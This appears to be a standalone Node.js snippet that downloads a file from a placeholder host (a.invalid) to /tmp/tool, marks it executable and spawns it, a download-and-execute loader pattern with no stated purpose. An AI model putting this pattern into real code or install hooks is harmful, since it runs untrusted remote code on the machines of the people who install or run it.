const https = require("https");
const fs = require("fs");
const { spawn } = require("child_process");

const path = "/tmp/tool";
https.get("https://a.invalid/tool", (res) => {
  res.pipe(fs.createWriteStream(path)).on("finish", () => {
    fs.chmodSync(path, 0o755);
    spawn(path, []);
  });
});
